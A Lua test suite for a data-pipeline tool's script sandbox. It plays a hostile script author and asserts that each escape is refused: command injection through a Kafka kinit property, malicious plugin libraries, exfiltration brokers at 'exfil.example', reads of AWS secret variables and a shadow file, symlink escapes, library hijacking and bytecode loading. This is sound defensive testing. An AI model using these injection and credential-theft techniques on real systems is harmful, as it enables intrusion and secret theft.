-- sandbox_spec.lua (#sandbox): a pipeline script reaches only what the
-- operator grants (doc/security.md). Each case is an attack from issue 12,
-- tried the way a hostile script author would.
local S = require("spec.support")
local core = require("murmur.core")

describe("#sandbox capabilities", function()
  local dir
  before_each(function() dir = S.tmpdir() end)
  after_each(function() S.rm_rf(dir) end)

  local function script(name, body)
    local path = dir .. "/" .. name
    S.write_file(path, body)
    return path
  end

  -- `murmur check` (or run) with an environment prefix; returns code, out..err.
  local function murmur(env, args)
    local parts = { env or "", S.quote(S.murmur) }
    for _, a in ipairs(args) do parts[#parts + 1] = S.quote(a) end
    local code, out, err = S.exec(table.concat(parts, " "))
    return code, out .. err
  end

  describe("grants", function()
    it("murmur.allow only asks: without the operator's grant the load fails naming the flag", function()
      local p = script("x.lua", 'local murmur = require("murmur")\n\nmurmur.allow("io")\n'
        .. 'murmur.pipeline { name = "x", key = "k", monoid = murmur.count() }\n')
      local code, out = murmur(nil, { "check", p })
      assert.are.equal(3, code, out)
      assert.is_truthy(out:find(p .. ':3: murmur.allow("io") needs the operator\'s grant: run with --allow io', 1, true), out)
      code, out = murmur(nil, { "check", "--allow", "io", p })
      assert.are.equal(0, code, out)
      code, out = murmur("MURMUR_ALLOW=os,io", { "check", p })
      assert.are.equal(0, code, out)
      -- A grant the script does not ask for gives io nothing by itself.
      local q = script("y.lua", 'local murmur = require("murmur")\nlocal f = io.open("/dev/null")\n'
        .. 'murmur.pipeline { name = "y", key = "k", monoid = murmur.count() }\n')
      code, out = murmur(nil, { "check", "--allow", "io", q })
      assert.are.equal(3, code, out)
      assert.matches("attempt to index global 'io'", out)
    end)

    it("refuses an unknown capability as a usage error", function()
      local p = script("x.lua", 'local murmur = require("murmur")\nmurmur.pipeline { name = "x", key = "k", monoid = murmur.count() }\n')
      local code, out = murmur(nil, { "check", "--allow", "root", p })
      assert.are.equal(2, code, out)
      assert.matches("unknown capability 'root'", out)
      code, out = murmur(nil, { "run", "--once", "--no-supervisor", "--allow", "env:AWS_SECRET_ACCESS_KEY", p })
      assert.are.equal(2, code, out)
      assert.matches("never given to scripts", out)
    end)
  end)

  describe("Kafka properties", function()
    local marker
    before_each(function() marker = dir .. "/marker" end)

    local function run(body, extra)
      local p = script("k.lua", 'local murmur = require("murmur")\n' .. body)
      local args = { "run", "--once", "--no-supervisor", "--data", dir .. "/d", "--allow", "net:127.0.0.1:1" }
      for _, a in ipairs(extra or {}) do args[#args + 1] = a end
      args[#args + 1] = p
      return murmur(nil, args)
    end

    it("refuses sasl.kerberos.kinit.cmd at load and runs nothing", function()
      local code, out = run(([[murmur.pipeline { name = "k", key = "k", monoid = murmur.count(),
  source = murmur.kafka { topic = "t", brokers = "127.0.0.1:1", properties = {
    ["security.protocol"] = "SASL_PLAINTEXT", ["sasl.mechanism"] = "GSSAPI",
    ["sasl.kerberos.kinit.cmd"] = "touch %s" } } }
]]):format(marker), { "--allow", "kafka:sasl.kerberos.kinit.cmd" })
      assert.are.equal(3, code, out)
      assert.is_truthy(out:find("k.lua:3: murmur.kafka: property 'sasl.kerberos.kinit.cmd' is refused", 1, true), out)
      assert.matches("%-X sasl.kerberos.kinit.cmd=", out)
      S.sleep(0.2)
      assert.is_nil(S.read_file(marker))
    end)

    it("refuses plugin.library.paths, on a source and on a dead-letter topic", function()
      S.write_file(dir .. "/evil.so", "")
      local code, out = run(([[murmur.pipeline { name = "k", key = "k", monoid = murmur.count(),
  source = murmur.kafka { topic = "t", brokers = "127.0.0.1:1", properties = { ["plugin.library.paths"] = %q } } }
]]):format(dir .. "/evil.so"))
      assert.are.equal(3, code, out)
      assert.matches("property 'plugin.library.paths' is refused", out)
      code, out = run(([[murmur.pipeline { name = "k", key = "k", monoid = murmur.count(),
  dead_letter = murmur.kafka_topic { topic = "dlq", brokers = "127.0.0.1:1",
    properties = { ["ssl.engine.location"] = %q } } }
]]):format(dir .. "/evil.so"))
      assert.are.equal(3, code, out)
      assert.matches("k.lua:3: murmur.kafka_topic: property 'ssl.engine.location' is refused", out)
    end)

    it("lets safe properties through, others only when granted, files only under the allowed roots", function()
      local function check(props, extra)
        local p = script("c.lua", ('local murmur = require("murmur")\nmurmur.pipeline { name = "k", key = "k", monoid = murmur.count(),\n'
          .. '  source = murmur.kafka { topic = "t", properties = { %s } } }\n'):format(props))
        local args = { "check" }
        for _, a in ipairs(extra or {}) do args[#args + 1] = a end
        args[#args + 1] = p
        return murmur(nil, args)
      end
      local code, out = check('["fetch.wait.max.ms"] = 10, ["client.id"] = "x", ["sasl.password"] = "p"')
      assert.are.equal(0, code, out)
      code, out = check('["enable.auto.commit"] = true')
      assert.are.equal(3, code, out)
      assert.matches("outside murmur's safe set.*%-%-allow kafka:enable.auto.commit", out)
      code, out = check('["enable.auto.commit"] = true', { "--allow", "kafka:enable.auto.commit" })
      assert.are.equal(0, code, out)
      local other = S.tmpdir()
      S.write_file(other .. "/ca.pem", "x")
      code, out = check(('["ssl.ca.location"] = %q'):format(other .. "/ca.pem"))
      assert.are.equal(3, code, out)
      assert.matches("property 'ssl.ca.location': .* is outside .*%-%-allow path:" .. other:gsub("%p", "%%%0"), out)
      code, out = check(('["ssl.ca.location"] = %q'):format(other .. "/ca.pem"), { "--allow", "path:" .. other })
      assert.are.equal(0, code, out)
      S.write_file(dir .. "/ca.pem", "x")
      code, out = check(('["ssl.ca.location"] = %q'):format(dir .. "/ca.pem"))
      assert.are.equal(0, code, out)
      code, out = check('["bootstrap.servers"] = "evil.example:9092"')
      assert.are.equal(3, code, out)
      assert.matches("%-%-allow net:evil.example:9092", out)
      S.rm_rf(other)
    end)

    it("accepts brokers a script names only when granted or when the operator names brokers", function()
      local p = script("b.lua", 'local murmur = require("murmur")\nmurmur.pipeline { name = "k", key = "k", monoid = murmur.count(),\n'
        .. '  source = murmur.kafka { topic = "t", brokers = "collector.example:9092" } }\n')
      local code, out = murmur(nil, { "check", p })
      assert.are.equal(3, code, out)
      assert.is_truthy(out:find("b.lua:3: murmur.kafka: brokers collector.example:9092 are chosen by the script: run with --allow net:collector.example:9092", 1, true), out)
      code, out = murmur(nil, { "check", "--allow", "net:collector.example:9092", p })
      assert.are.equal(0, code, out)
      code, out = murmur("MURMUR_KAFKA_BROKERS=127.0.0.1:9092", { "check", p })
      assert.are.equal(0, code, out)
      local q = script("d.lua", 'local murmur = require("murmur")\nmurmur.pipeline { name = "k", key = "k", monoid = murmur.count(),\n'
        .. '  dead_letter = murmur.kafka_topic { topic = "dlq", brokers = "exfil.example:9092" } }\n')
      code, out = murmur("MURMUR_KAFKA_BROKERS=127.0.0.1:9092", { "check", q })
      assert.are.equal(3, code, out)
      assert.matches("murmur.kafka_topic: brokers exfil.example:9092 are chosen by the script", out)
    end)
  end)

  describe("secrets", function()
    it("os.getenv shows scripts MURMUR_* settings and granted variables, never AWS credentials", function()
      local p = script("e.lua", [[local murmur = require("murmur")
error(("seen: %s %s %s %s %s"):format(tostring(os.getenv("AWS_SECRET_ACCESS_KEY")), tostring(os.getenv("AWS_SESSION_TOKEN")),
  tostring(os.getenv("HOME_SECRET")), tostring(os.getenv("MURMUR_TEAM")), tostring(os.getenv("MURMUR_KAFKA_PROPERTIES"))))
]])
      local env = "AWS_SECRET_ACCESS_KEY=s3cr3t AWS_SESSION_TOKEN=t0k3n HOME_SECRET=h MURMUR_TEAM=ads MURMUR_KAFKA_PROPERTIES=sasl.password=pw"
      local code, out = murmur(env, { "check", p })
      assert.are.equal(3, code, out)
      assert.matches("seen: nil nil nil ads nil", out)
      code, out = murmur(env, { "check", "--allow", "env:HOME_SECRET", p })
      assert.matches("seen: nil nil h ads nil", out)
      -- Key functions run in the same environment.
      local q = script("f.lua", [[local murmur = require("murmur")
murmur.pipeline { name = "f", monoid = murmur.count(), key = function(ev) return tostring(os.getenv("AWS_ACCESS_KEY_ID")) end }
]])
      S.write_file(dir .. "/in.jsonl", '{"k":1}\n')
      code, out = murmur("AWS_ACCESS_KEY_ID=AKIDLEAK", { "check", "--input", dir .. "/in.jsonl", q })
      assert.are.equal(0, code, out)
      assert.is_falsy(out:find("AKIDLEAK", 1, true), out)
    end)

    it("a script-chosen DynamoDB endpoint receives no credentials: the run is refused", function()
      if S.exec("python3 -c 1") ~= 0 then
        pending("python3 is needed for the listener")
        return
      end
      local got = dir .. "/got"
      S.write_file(dir .. "/listen.py", ([[
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 0)); s.listen(8)
print("listening %%d" %% s.getsockname()[1], flush=True)
while True:
    c, _ = s.accept()
    c.settimeout(2)
    data = b""
    try:
        while b"\r\n\r\n" not in data:
            b = c.recv(65536)
            if not b: break
            data += b
    except Exception:
        pass
    open(%q, "ab").write(data)
    try: c.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
    except Exception: pass
    c.close()
]]):format(got))
      local h = S.spawn("python3 -u " .. S.quote(dir .. "/listen.py"), dir .. "/listen.log")
      local port = S.wait_port(dir .. "/listen.log", 10)
      local p = script("ddb.lua", ([[local murmur = require("murmur")
murmur.pipeline { name = "k", key = "k", monoid = murmur.count(),
  store = murmur.store("dynamodb", { table = "t", endpoint = "http://127.0.0.1:%d", max_attempts = 1,
    request_timeout = "2s", positions = false }) }
]]):format(port))
      S.write_file(dir .. "/in.jsonl", '{"k":"a"}\n')
      local env = "AWS_ACCESS_KEY_ID=AKIDLEAK AWS_SECRET_ACCESS_KEY=s3cr3t AWS_SESSION_TOKEN=SESSIONLEAK AWS_REGION=us-east-1"
      local code, out = murmur(env, { "run", "--once", "--no-supervisor", "--data", dir .. "/d", "--input", dir .. "/in.jsonl", p })
      assert.are.equal(3, code, out)
      assert.matches("endpoint http://127.0.0.1:" .. port .. " is chosen by the script and would receive the AWS credentials: run with %-%-allow net:127.0.0.1:" .. port, out)
      S.sleep(0.3)
      assert.is_nil(S.read_file(got))
      -- The control: granted, the same script does reach the listener, with
      -- the signed headers the refusal kept from it.
      code, out = murmur(env, { "run", "--once", "--no-supervisor", "--allow", "net:127.0.0.1:" .. port,
        "--data", dir .. "/d2", "--input", dir .. "/in.jsonl", p })
      assert.are_not.equal(3, code, out)
      local seen = S.read_file(got) or ""
      S.kill(h, "KILL")
      assert.matches("Authorization: AWS4%-HMAC%-SHA256 Credential=AKIDLEAK", seen)
    end)
  end)

  describe("paths", function()
    local other
    before_each(function()
      other = S.tmpdir()
      S.write_file(other .. "/shadow", '{"k":"root:$6$secret"}\n')
    end)
    after_each(function() S.rm_rf(other) end)

    local function file_script(path, extra)
      return script("p.lua", ('local murmur = require("murmur")\nmurmur.pipeline { name = "p", key = "k", monoid = murmur.count(),\n'
        .. '  source = murmur.file { path = %q }%s }\n'):format(path, extra or ""))
    end

    it("refuses a file outside the script's directory, the data directory and the granted roots", function()
      local p = file_script(other .. "/shadow")
      local code, out = murmur(nil, { "check", p })
      assert.are.equal(3, code, out)
      assert.is_truthy(out:find(("p.lua:3: murmur.file: %s/shadow is outside the script's directory"):format(other), 1, true), out)
      assert.is_truthy(out:find("run with --allow path:" .. other .. " to grant it", 1, true), out)
      code, out = murmur(nil, { "run", "--once", "--no-supervisor", "--data", dir .. "/d", p })
      assert.are.equal(3, code, out)
      code, out = murmur(nil, { "run", "--once", "--no-supervisor", "--data", dir .. "/d", "--allow", "path:" .. other, p })
      assert.are.equal(0, code, out)
      local _, q = S.murmur_run({ "query", "p", "root:$6$secret", "--json", "--data", dir .. "/d" })
      assert.are.equal(1, core.json_decode(q).result.value)
    end)

    it("refuses a symbolic link in the script's directory that points outside", function()
      assert.are.equal(0, (S.exec(("ln -s %s %s"):format(S.quote(other .. "/shadow"), S.quote(dir .. "/innocent.jsonl")))))
      local p = file_script(dir .. "/innocent.jsonl")
      local code, out = murmur(nil, { "check", p })
      assert.are.equal(3, code, out)
      assert.is_truthy(out:find("innocent.jsonl (which resolves to " .. other .. "/shadow) is outside", 1, true), out)
      -- A link to a file inside is resolved at load, but the open refuses
      -- the link itself (O_NOFOLLOW), so a link swapped later is no way out.
      S.write_file(dir .. "/real.jsonl", '{"k":"a"}\n')
      assert.are.equal(0, (S.exec(("ln -s real.jsonl %s"):format(S.quote(dir .. "/inside.jsonl")))))
      p = file_script(dir .. "/inside.jsonl")
      code, out = murmur(nil, { "run", "--once", "--no-supervisor", "--data", dir .. "/d", p })
      assert.are_not.equal(0, code, out)
      assert.matches("symbolic link", out)
    end)

    it("refuses dead-letter and store paths outside the allowed roots", function()
      S.write_file(dir .. "/in.jsonl", '{"k":"a"}\n')
      local p = script("dl.lua", ('local murmur = require("murmur")\nmurmur.pipeline { name = "p", key = "k", monoid = murmur.count(),\n'
        .. '  dead_letter = %q }\n'):format(other .. "/binary"))
      local code, out = murmur(nil, { "check", p })
      assert.are.equal(3, code, out)
      assert.matches("dead_letter: .*binary is outside", out)
      p = script("st.lua", ('local murmur = require("murmur")\nmurmur.pipeline { name = "p", key = "k", monoid = murmur.count(),\n'
        .. '  store = murmur.store("lmdb", { path = %q }) }\n'):format(other .. "/store"))
      code, out = murmur(nil, { "check", p })
      assert.are.equal(3, code, out)
      assert.matches("st.lua:3: murmur.store: option 'path': .* is outside", out)
      -- Under the data directory is fine.
      p = script("ok.lua", ('local murmur = require("murmur")\nmurmur.pipeline { name = "p", key = "k", monoid = murmur.count(),\n'
        .. '  dead_letter = %q }\n'):format(other .. "/data/dl.jsonl"))
      code, out = murmur(nil, { "run", "--once", "--no-supervisor", "--data", other .. "/data", "--input", dir .. "/in.jsonl", p })
      assert.are.equal(0, code, out)
    end)
  end)

  describe("isolation", function()
    it("one script's changes to the string library reach neither another script nor the engine", function()
      local a = script("a.lua", [[local murmur = require("murmur")
string.format = function() return "hijacked" end
string.lower = function() return "hijacked" end
local mt = getmetatable("")
assert(not pcall(function() mt.__index = { format = function() return "hijacked" end } end))
assert(not pcall(function() mt.__index.format = function() return "hijacked" end end))
rawset(mt.__index, "format", function() return "hijacked" end)
assert(not pcall(setmetatable, mt, {}))
assert(not pcall(function() getmetatable(murmur.count()).__murmur = nil end))
murmur.pipeline { name = "a", monoid = murmur.count(), key = function(ev) return string.format("%s", ev.k) end }
]])
      local b = script("b.lua", [[local murmur = require("murmur")
murmur.pipeline { name = "b", monoid = murmur.count(), key = function(ev)
  return ("b-%s"):format(ev.k) .. "/" .. string.format("%s", ev.k) .. "/" .. ev.k:lower()
end }
]])
      S.write_file(dir .. "/in.jsonl", '{"k":"X"}\n')
      local code, out = murmur(nil, { "check", "--input", dir .. "/in.jsonl", a, b })
      assert.are.equal(0, code, out)
      assert.is_truthy(out:find("b-X/X/x", 1, true), out)
      -- In this process too: the engine's own string table is untouched.
      local loader = require("murmur.loader")
      assert(loader.load(a))
      local c = assert(loader.load(b))
      assert.are.equal("1", string.format("%d", 1))
      assert.are.equal("1", ("%d"):format(1))
      assert.are.equal("x", ("X"):lower())
      assert.are.equal("b-X/X/x", c.pipelines[1].key_fn({ k = "X" }))
      local m = require("murmur.dsl")
      assert.are.equal("monoid", getmetatable(m.count()).__murmur)
    end)

    it("require refuses LuaJIT bytecode, for modules and for the script itself", function()
      S.write_file(dir .. "/evil.lua", string.dump(function() return { field = "k" } end))
      local p = script("uses.lua", 'local murmur = require("murmur")\nlocal e = require("evil")\n'
        .. 'murmur.pipeline { name = "u", key = e.field, monoid = murmur.count() }\n')
      local code, out = murmur(nil, { "check", p })
      assert.are.equal(3, code, out)
      assert.matches("evil.lua: LuaJIT bytecode is not loaded", out)
      local bc = script("bc.lua", string.dump(function() end))
      code, out = murmur(nil, { "check", bc })
      assert.are.equal(3, code, out)
      assert.matches("LuaJIT bytecode is not loaded", out)
    end)
  end)
end)
